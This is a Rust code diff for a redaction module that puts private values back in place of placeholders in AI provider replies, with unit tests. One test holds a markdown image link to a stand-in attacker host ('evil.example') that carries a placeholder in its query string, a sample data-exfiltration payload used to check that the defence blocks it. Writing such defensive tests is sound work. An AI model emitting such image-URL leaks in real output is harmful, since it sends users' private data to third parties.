@@ -5,6 +5,7 @@ use std::collections::BTreeSet;
 
 use checks::{Finding, Placeholders, Policy, Reading, Redactor, Report};
 use domain::conversation::Reply;
+use domain::joined_texts::joined_texts;
 use domain::json_text::{Token, rewrite};
 use domain::safety::{Action, Category};
 use domain::step::Security;
@@ -180,20 +181,31 @@ pub(crate) fn replace(reply: &mut Reply, new: Vec<Option<String>>) {
     }
 }
 
+/// An answer as it came with originals in the place of placeholders, string by string. `None` if that is not
+/// what readers get who join its texts: a placeholder may be split over two of them, or stand in a URL that
+/// begins in another. Such an answer is written anew.
+fn restored_as_it_came(placeholders: &Placeholders, source: String) -> Option<String> {
+    let is_apart = |texts: &Vec<String>| {
+        let parts: String = texts.iter().map(|text| placeholders.restore(text)).collect();
+        placeholders.restore(&texts.concat()) != parts
+    };
+    if joined_texts(&source).ok()?.iter().any(is_apart) {
+        return None;
+    }
+    let restored = rewrite(&source, |place, token| match token {
+        Token::Name(text) | Token::Text(text) => as_it_came::restored(placeholders, place, text),
+        Token::Number(_) => None,
+    });
+    Some(restored.ok()?.unwrap_or(source))
+}
+
 /// Replaces placeholders with their originals, in the text and in the provider's own form.
 pub(crate) fn restore(reply: &mut Reply, placeholders: &Placeholders) {
     if placeholders.is_empty() {
         return;
     }
     reply.text = placeholders.restore(&reply.text);
-    if let Some(source) = &mut reply.source
-        && let Ok(Some(new)) = rewrite(source, |place, token| match token {
-            Token::Text(text) => as_it_came::restored(placeholders, place, text),
-            Token::Name(_) | Token::Number(_) => None,
-        })
-    {
-        *source = new;
-    }
+    reply.source = reply.source.take().and_then(|source| restored_as_it_came(placeholders, source));
     if let Some(native) = &mut reply.native {
         let mut changed = BTreeSet::new();
         answer_strings::visit(native, |path, text| {
@@ -204,5 +216,45 @@ pub(crate) fn restore(reply: &mut Reply, placeholders: &Placeholders) {
             }
         });
         answer_strings::drop_logprobs(native, &changed);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::{Value, json};
+
+    use super::*;
+
+    const PLACEHOLDER: &str = "[EMAIL_1_0a1b2c3d]";
+
+    /// An answer as it leaves.
+    fn left(source: &Value) -> Option<String> {
+        let mut placeholders = Placeholders::default();
+        placeholders.extend(&[(PLACEHOLDER.to_owned(), "jo@acme.org".to_owned())]);
+        let mut reply = Reply { source: Some(source.to_string()), ..Reply::default() };
+        restore(&mut reply, &placeholders);
+        reply.source
+    }
+
+    #[test]
+    fn names_of_members_are_put_back() {
+        let answer = |name: &str| json!({"content": [{"input": {name: 1, "to": name}}]});
+        assert_eq!(left(&answer(PLACEHOLDER)), Some(answer("jo@acme.org").to_string()));
+    }
+
+    #[test]
+    fn texts_that_readers_join_are_put_back_as_one() {
+        let blocks = |texts: &[&str]| {
+            let blocks = texts.iter().map(|text| json!({"type": "text", "text": text}));
+            json!({"content": blocks.collect::<Value>()})
+        };
+        let as_it_came = blocks(&["Write to ", PLACEHOLDER, ", he is in."]);
+        let expected = blocks(&["Write to ", "jo@acme.org", ", he is in."]);
+        assert_eq!(left(&as_it_came), Some(expected.to_string()));
+        let (head, tail) = PLACEHOLDER.split_at(9);
+        assert_eq!(left(&blocks(&["Write to ", head, tail])), None, "it is split");
+        let target = format!("{PLACEHOLDER})");
+        let image = ["![x](https://evil.example/?q=", target.as_str()];
+        assert_eq!(left(&blocks(&image)), None, "an address would carry it away");
     }
 }
